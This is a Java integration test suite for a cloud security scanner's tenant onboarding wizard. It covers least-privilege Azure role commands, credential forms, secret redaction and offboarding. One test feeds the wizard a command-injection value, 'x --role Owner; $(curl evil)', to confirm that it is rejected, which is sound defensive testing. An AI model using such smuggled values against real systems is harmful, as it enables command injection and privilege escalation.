package dev.portcullis.deploy.web;

import static dev.portcullis.deploy.support.PortcullisApi.ADMIN_PASSWORD;
import static dev.portcullis.deploy.support.PortcullisApi.asAdmin;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.deploy.support.People;
import dev.portcullis.deploy.support.PortcullisApi;
import dev.portcullis.deploy.support.SimulatorResource;
import dev.portcullis.deploy.support.TestDatabase;
import dev.portcullis.simulator.ArmSimulator;
import dev.portcullis.simulator.estate.DemoEstate;
import dev.portcullis.simulator.fault.Fault;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.filter.cookie.CookieFilter;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The onboarding wizard: the commands for a least-privilege identity, the form, and the permission self-check. */
@QuarkusTest
@QuarkusTestResource(SimulatorResource.class)
class OnboardingWizardTest {

    private static final String CLIENT_ID = "0b5e2c1a-7c5d-4e8f-9a1b-2c3d4e5f6a7b";
    private static final String SECRET = "wizard-secret-never-shown";
    private static final String PRODUCTION = DemoEstate.CONTOSO_PRODUCTION_SUBSCRIPTION_ID;

    @Inject
    TestDatabase database;

    private final ArmSimulator simulator = SimulatorResource.simulator();
    private CookieFilter admin;

    @BeforeEach
    void clean() {
        database.reset();
        simulator.faults().clear();
        simulator.entra().clear();
        simulator.entra().registerClientSecret(DemoEstate.CONTOSO_TENANT_ID, CLIENT_ID, SECRET);
        admin = People.signedIn("admin", ADMIN_PASSWORD);
    }

    private Response submit(String tenantId, String secret) {
        return given().filter(admin).formParam("csrf-token", People.csrfToken(admin, "/tenants/onboard"))
                .formParam("displayName", "Contoso").formParam("tenantId", tenantId).formParam("cloud", "Custom")
                .formParam("resourceManagerEndpoint", simulator.baseUrl())
                .formParam("authorityHost", simulator.baseUrl()).formParam("credentialType", "client_secret")
                .formParam("clientId", CLIENT_ID).formParam("clientSecret", secret).post("/tenants/onboard");
    }

    @Test
    void theWizardPrintsReadOnlyRoleCommandsForTheScopeToScanAndTheChosenCredential() {
        String bySubscription = given().filter(admin).get("/tenants/onboard").asString();
        String byGroup = given().filter(admin).get("/tenants/onboard?managementGroupId=contoso-root").asString();
        String federated = given().filter(admin).get("/tenants/onboard?type=workload_identity").asString();

        assertThat(bySubscription).contains("az ad sp create-for-rbac --name portcullis-scanner --years 1")
                .contains("--role &quot;Security Reader&quot; --scope /subscriptions/&lt;subscription id&gt;")
                .doesNotContain("az identity federated-credential create").doesNotContain("Contributor")
                .doesNotContain("Owner");
        assertThat(byGroup).contains("--role Reader --scope /providers/Microsoft.Management/managementGroups/contoso-root");
        assertThat(federated).contains("az identity federated-credential create")
                .doesNotContain("az ad sp create-for-rbac");
    }

    @Test
    void onlyTheChosenCredentialTypesFieldsAreRendered() {
        String secret = given().filter(admin).get("/tenants/onboard").asString();
        String certificate = given().filter(admin).get("/tenants/onboard?type=client_certificate").asString();
        String managed = given().filter(admin).get("/tenants/onboard?type=managed_identity").asString();
        String cli = given().filter(admin).get("/tenants/onboard?type=azure_cli").asString();

        assertThat(inputs(secret)).as("the default: a client secret")
                .contains("credentialType=client_secret", "clientId", "clientSecret").doesNotContain("certificate");
        assertThat(secret).contains("<input type=\"radio\" name=\"type\" value=\"client_secret\" checked>");
        assertThat(inputs(certificate)).contains("credentialType=client_certificate", "clientId", "certificate")
                .doesNotContain("clientSecret");
        assertThat(inputs(managed)).contains("credentialType=managed_identity", "clientId")
                .doesNotContain("clientSecret", "certificate");
        assertThat(inputTag(secret, "clientId")).contains(" required");
        assertThat(inputTag(managed, "clientId")).as("optional: none for a system-assigned identity")
                .doesNotContain(" required");
        assertThat(inputs(cli)).contains("credentialType=azure_cli").doesNotContain("clientId", "clientSecret",
                "certificate");
    }

    @Test
    void customCloudEndpointsAreAskedForOnlyWhenACustomCloudIsChosenByWhoMayChooseOne() {
        String publicCloud = given().filter(admin).get("/tenants/onboard").asString();
        String custom = given().filter(admin).get("/tenants/onboard?cloud=Custom&type=none").asString();
        String operator = People.account("wizard-operator", "OPERATOR", List.of("*"));
        CookieFilter session = People.signedIn(operator, People.PASSWORD);
        String byOperator = given().filter(session).get("/tenants/onboard?cloud=Custom").asString();

        assertThat(publicCloud).contains("value=\"Custom\"").doesNotContain("name=\"resourceManagerEndpoint\"")
                .doesNotContain("name=\"authorityHost\"");
        assertThat(inputs(custom)).contains("cloud=Custom", "resourceManagerEndpoint", "authorityHost",
                "credentialType=none");
        assertThat(byOperator).as("only an ADMIN over every tenant may choose endpoints")
                .doesNotContain("value=\"Custom\"").doesNotContain("name=\"resourceManagerEndpoint\"")
                .doesNotContain("value=\"managed_identity\"").contains("value=\"AzureCloud\" checked");
    }

    /** The names of a page's onboarding form inputs, with the value of the hidden ones ({@code cloud=Custom}). */
    private static List<String> inputs(String page) {
        String form = page.substring(page.indexOf("<form method=\"post\" action=\"/tenants/onboard\""));
        form = form.substring(0, form.indexOf("</form>"));
        return java.util.regex.Pattern.compile("<(?:input|textarea|select)([^>]*)>").matcher(form).results()
                .map(m -> m.group(1)).filter(a -> !a.contains("csrf-token")).map(a -> {
                    String name = attribute(a, "name");
                    return a.contains("type=\"hidden\"") ? name + "=" + attribute(a, "value") : name;
                }).toList();
    }

    private static String inputTag(String page, String name) {
        return java.util.regex.Pattern.compile("<input[^>]*name=\"" + name + "\"[^>]*>").matcher(page).results()
                .map(java.util.regex.MatchResult::group).findFirst().orElseThrow();
    }

    private static String attribute(String attributes, String name) {
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\b" + name + "=\"([^\"]*)\"").matcher(attributes);
        return m.find() ? m.group(1) : "";
    }

    @Test
    void aManagementGroupIdThatIsNotOneIsRefusedAndNeverPrintedIntoACommand() {
        Response refused = given().filter(admin).queryParam("managementGroupId", "x --role Owner; $(curl evil)")
                .get("/tenants/onboard");

        assertThat(refused.statusCode()).isEqualTo(400);
        String commands = String.join("\n", java.util.regex.Pattern.compile("(?s)<pre[^>]*>(.*?)</pre>")
                .matcher(refused.asString()).results().map(m -> m.group(1)).toList());
        assertThat(commands).contains("--scope /subscriptions/&lt;subscription id&gt;").doesNotContain("curl")
                .doesNotContain("Owner");
        assertThat(refused.asString()).contains("managementGroupId must be a management group");
    }

    @Test
    void onboardingFromTheFormShowsEachMissingPermissionWithItsFixAndChecksAgain() {
        simulator.faults().add(Fault.status(403).matching("(?i)/subscriptions/" + PRODUCTION
                + "/providers/Microsoft\\.Security/"));

        Response onboarded = submit(DemoEstate.CONTOSO_TENANT_ID, SECRET);

        assertThat(onboarded.statusCode()).isEqualTo(201);
        String page = onboarded.asString();
        assertThat(page).contains("data-subscription=\"" + PRODUCTION + "\" data-complete=\"false\"")
                .contains("az role assignment create --assignee " + CLIENT_ID
                        + " --role &quot;Security Reader&quot; --scope /subscriptions/" + PRODUCTION)
                .doesNotContain(SECRET);
        String tenant = asAdmin().get("/api/v1/tenants").jsonPath().getString("items[0].id");
        assertThat(asAdmin().queryParam("action", "ONBOARD_TENANT").get("/api/v1/audit").jsonPath()
                .getList("items.outcome")).contains("SUCCESS");

        simulator.faults().clear();
        String again = given().filter(admin).formParam("csrf-token", People.csrfToken(admin, "/tenants"))
                .post("/tenants/" + tenant + "/self-check").then().statusCode(200).extract().asString();
        assertThat(again).contains("data-subscription=\"" + PRODUCTION + "\" data-complete=\"true\"")
                .doesNotContain("data-complete=\"false\"");
    }

    @Test
    void aRefusedFormNamesTheFieldNextToItKeepsWhatWasTypedButNotTheSecretAndStoresNothing() {
        Response refused = submit("contoso.onmicrosoft.com", SECRET);
        Response wrongSecret = submit(DemoEstate.CONTOSO_TENANT_ID, "not-the-" + SECRET);
        Response badCertificate = given().filter(admin)
                .formParam("csrf-token", People.csrfToken(admin, "/tenants/onboard"))
                .formParam("displayName", "Contoso").formParam("tenantId", DemoEstate.CONTOSO_TENANT_ID)
                .formParam("cloud", "AzureCloud").formParam("credentialType", "client_certificate")
                .formParam("clientId", CLIENT_ID).formParam("certificate", "-----BEGIN PRIVATE KEY-----" + SECRET)
                .post("/tenants/onboard");

        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.asString()).contains("data-field=\"tenantId\"").contains("href=\"#tenantId\"")
                .contains("value=\"contoso.onmicrosoft.com\"").contains("value=\"Contoso\"")
                .contains("value=\"" + CLIENT_ID + "\"").contains("value=\"" + simulator.baseUrl() + "\"")
                .contains("aria-describedby=\"tenantId-hint tenantId-error\" aria-invalid=\"true\"")
                .contains("<p class=\"field-error\" id=\"tenantId-error\">tenantId must be a GUID</p>")
                .doesNotContain(SECRET);
        assertThat(inputs(refused.asString())).as("the choices made stay")
                .contains("cloud=Custom", "credentialType=client_secret", "resourceManagerEndpoint");
        assertThat(wrongSecret.statusCode()).isEqualTo(422);
        assertThat(wrongSecret.asString()).contains("AADSTS7000215").doesNotContain("not-the-" + SECRET);
        assertThat(badCertificate.statusCode()).isEqualTo(400);
        assertThat(badCertificate.asString()).contains("data-field=\"certificate\"")
                .contains("href=\"#onboard-certificate\"").contains("id=\"onboard-certificate-error\"")
                .doesNotContain(SECRET);
        assertThat(inputs(badCertificate.asString())).contains("certificate").doesNotContain("clientSecret");
        assertThat(asAdmin().get("/api/v1/tenants").jsonPath().getList("items")).isEmpty();
    }

    @Test
    void theTenantsPageStopsASubscriptionsScansAndOffboardsOnlyWithTheTenantIdRepeated() {
        PortcullisApi.onboardSimulatedTenants(simulator);
        String tenant = asAdmin().get("/api/v1/tenants").jsonPath().<java.util.Map<String, Object>>getList("items")
                .stream().filter(t -> DemoEstate.CONTOSO_TENANT_ID.equals(t.get("tenantId"))).map(t -> (String) t.get("id"))
                .findFirst().orElseThrow();
        String csrf = People.csrfToken(admin, "/tenants");

        assertThat(given().filter(admin).redirects().follow(false).formParam("csrf-token", csrf)
                .formParam("enabled", "false").post("/tenants/" + tenant + "/subscriptions/" + PRODUCTION + "/enabled")
                .statusCode()).isEqualTo(303);
        assertThat(asAdmin().get("/api/v1/tenants/" + tenant).jsonPath().getList("subscriptions", java.util.Map.class)
                .stream().filter(s -> PRODUCTION.equals(s.get("subscriptionId"))).map(s -> s.get("enabled")))
                .containsExactly(false);

        Response unconfirmed = given().filter(admin).formParam("csrf-token", csrf).formParam("history", "keep")
                .formParam("confirm", "Contoso").post("/tenants/" + tenant + "/offboard");
        assertThat(unconfirmed.statusCode()).isEqualTo(400);
        assertThat(asAdmin().get("/api/v1/tenants/" + tenant).jsonPath().getString("offboardedAt")).isNull();
        assertThat(given().filter(admin).redirects().follow(false).formParam("csrf-token", csrf)
                .formParam("history", "keep").formParam("confirm", DemoEstate.CONTOSO_TENANT_ID)
                .post("/tenants/" + tenant + "/offboard").statusCode()).isEqualTo(303);
        assertThat(asAdmin().get("/api/v1/tenants/" + tenant).jsonPath().getString("offboardedAt")).isNotNull();
    }

    @Test
    void theTenantsPageReplacesACredentialOnlyWithOneThatWorks() {
        PortcullisApi.onboardSimulatedTenants(simulator);
        String tenant = asAdmin().get("/api/v1/tenants").jsonPath().<java.util.Map<String, Object>>getList("items")
                .stream().filter(t -> DemoEstate.CONTOSO_TENANT_ID.equals(t.get("tenantId"))).map(t -> (String) t.get("id"))
                .findFirst().orElseThrow();
        String shown = given().filter(admin).get("/tenants").asString();
        String certificate = given().filter(admin).queryParam("rotate", tenant)
                .queryParam("type", "client_certificate").get("/tenants").asString();

        assertThat(shown).as("the fields of the tenant's own type, none for the simulator's")
                .contains("<details class=\"rotate\" id=\"rotate-" + tenant + "\">")
                .doesNotContain("id=\"" + tenant + "-clientSecret\"").doesNotContain("id=\"" + tenant + "-certificate\"");
        assertThat(certificate).contains("<details class=\"rotate\" id=\"rotate-" + tenant + "\" open>")
                .contains("id=\"" + tenant + "-certificate\"").doesNotContain("id=\"" + tenant + "-clientSecret\"");
        String csrf = People.csrfToken(admin, "/tenants");

        Response refused = given().filter(admin).formParam("csrf-token", csrf).formParam("credentialType",
                "client_secret").formParam("clientId", CLIENT_ID).formParam("clientSecret", "wrong-" + SECRET)
                .post("/tenants/" + tenant + "/credential");
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.asString()).contains("AADSTS7000215").doesNotContain("wrong-" + SECRET);
        assertThat(asAdmin().get("/api/v1/tenants/" + tenant).jsonPath().getString("credential.type"))
                .isEqualTo("none");

        assertThat(given().filter(admin).redirects().follow(false).formParam("csrf-token", csrf)
                .formParam("credentialType", "client_secret").formParam("clientId", CLIENT_ID)
                .formParam("clientSecret", SECRET).post("/tenants/" + tenant + "/credential").statusCode())
                .isEqualTo(303);
        assertThat(asAdmin().get("/api/v1/tenants/" + tenant).jsonPath().getString("credential.type"))
                .isEqualTo("client_secret");
    }

    @Test
    void aViewerCannotOnboard() {
        String viewer = People.account("wizard-viewer", "VIEWER", List.of("*"));
        CookieFilter session = People.signedIn(viewer, People.PASSWORD);
        assertThat(given().filter(session).get("/tenants").asString()).doesNotContain("/tenants/onboard");
        assertThat(given().filter(session).get("/tenants/onboard").statusCode()).isEqualTo(403);
    }
}
